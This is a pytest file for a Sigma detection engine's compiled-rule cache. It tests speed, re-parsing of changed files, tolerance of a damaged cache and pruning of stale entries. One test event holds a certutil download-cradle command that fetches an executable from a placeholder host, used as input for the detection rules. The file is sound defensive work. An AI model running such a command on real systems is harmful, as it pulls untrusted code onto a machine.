"""The compiled-rule cache: same rules, much faster, never stale."""

from __future__ import annotations

import os
import time
from pathlib import Path

from stockade.detection import DetectionEngine, cache, load_rule_paths

SIGMA = Path(__file__).resolve().parents[3] / "shared" / "data" / "sigma"
RULES = SIGMA / "rules" / "windows" / "process_creation"

RULE = """title: Evil {n}
id: 7d0d2a4c-0000-4000-8000-00000000000{n}
logsource: {{product: windows, category: process_creation}}
detection:
    sel:
        CommandLine|contains: 'evil{n}'
    condition: sel
"""


def summary(rule_set):  # type: ignore[no-untyped-def]
    return [(r.info, r.literals, r.required_event_ids) for r in rule_set.rules], rule_set.problems


def test_cached_load_gives_the_same_rules_and_is_faster(tmp_path: Path) -> None:
    started = time.perf_counter()
    fresh = load_rule_paths([RULES], cache_dir=tmp_path)
    parsing = time.perf_counter() - started
    started = time.perf_counter()
    cached = load_rule_paths([RULES], cache_dir=tmp_path)
    from_cache = time.perf_counter() - started

    assert summary(cached) == summary(fresh)
    assert from_cache < parsing / 3
    event = {
        "EventID": 1,
        "Image": "C:\\Windows\\System32\\certutil.exe",
        "CommandLine": "certutil -urlcache -f http://x/a.exe a.exe",
    }
    assert DetectionEngine(cached.rules).match(event) == DetectionEngine(fresh.rules).match(event)
    assert DetectionEngine(cached.rules).match(event)


def test_a_changed_file_is_parsed_again(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "a.yml").write_text(RULE.format(n=1), "utf-8")
    cache = tmp_path / "cache"
    assert [r.info.title for r in load_rule_paths([rules], cache_dir=cache).rules] == ["Evil 1"]

    (rules / "a.yml").write_text(RULE.format(n=2), "utf-8")
    os.utime(rules / "a.yml", ns=(1, 1))  # even with an old time: the size/time pair changed
    (rules / "b.yml").write_text(RULE.format(n=3), "utf-8")

    titles = [r.info.title for r in load_rule_paths([rules], cache_dir=cache).rules]
    assert titles == ["Evil 2", "Evil 3"]


def test_a_damaged_cache_is_ignored(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "a.yml").write_text(RULE.format(n=1), "utf-8")
    cache = tmp_path / "cache"
    load_rule_paths([rules], cache_dir=cache)
    for stored in cache.iterdir():
        stored.write_bytes(b"not a pickle")

    assert [r.info.title for r in load_rule_paths([rules], cache_dir=cache).rules] == ["Evil 1"]


def test_files_no_one_used_for_a_month_go_when_the_cache_is_written(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "a.yml").write_text(RULE.format(n=1), "utf-8")
    cache_dir = tmp_path / "cache"
    load_rule_paths([rules], cache_dir=cache_dir)
    (kept,) = cache_dir.glob("rules-*.pickle")
    long_ago = time.time() - (cache.STALE_DAYS + 1) * 86400
    stale = [cache_dir / "rules-0123.pickle", cache_dir / "scan-0123.bin", cache_dir / "x.tmp"]
    for path in [*stale, cache_dir / "notes.txt"]:
        path.write_bytes(b"old")
        os.utime(path, (long_ago, long_ago))
    os.utime(kept, (long_ago, long_ago))

    # Reading marks the rule set's file used; writing another entry prunes the rest.
    load_rule_paths([rules], cache_dir=cache_dir)
    assert kept.stat().st_mtime > long_ago
    (rules / "b.yml").write_text(RULE.format(n=2), "utf-8")
    load_rule_paths([rules], cache_dir=cache_dir)

    assert kept.exists() and (cache_dir / "notes.txt").exists()
    assert not any(path.exists() for path in stale)
    assert len(list(cache_dir.glob("rules-*.pickle"))) == 2
    assert cache.prune(cache_dir) == 0


def test_a_scan_read_from_the_cache_is_marked_used(tmp_path: Path) -> None:
    scans = cache.ScanCache(tmp_path, "rule set")
    scans.put("bucket", b"scan")
    (stored,) = tmp_path.glob("scan-*.bin")
    long_ago = time.time() - (cache.STALE_DAYS + 1) * 86400
    os.utime(stored, (long_ago, long_ago))

    assert scans.get("bucket") == b"scan"
    assert stored.stat().st_mtime > long_ago
    assert scans.get("other bucket") is None
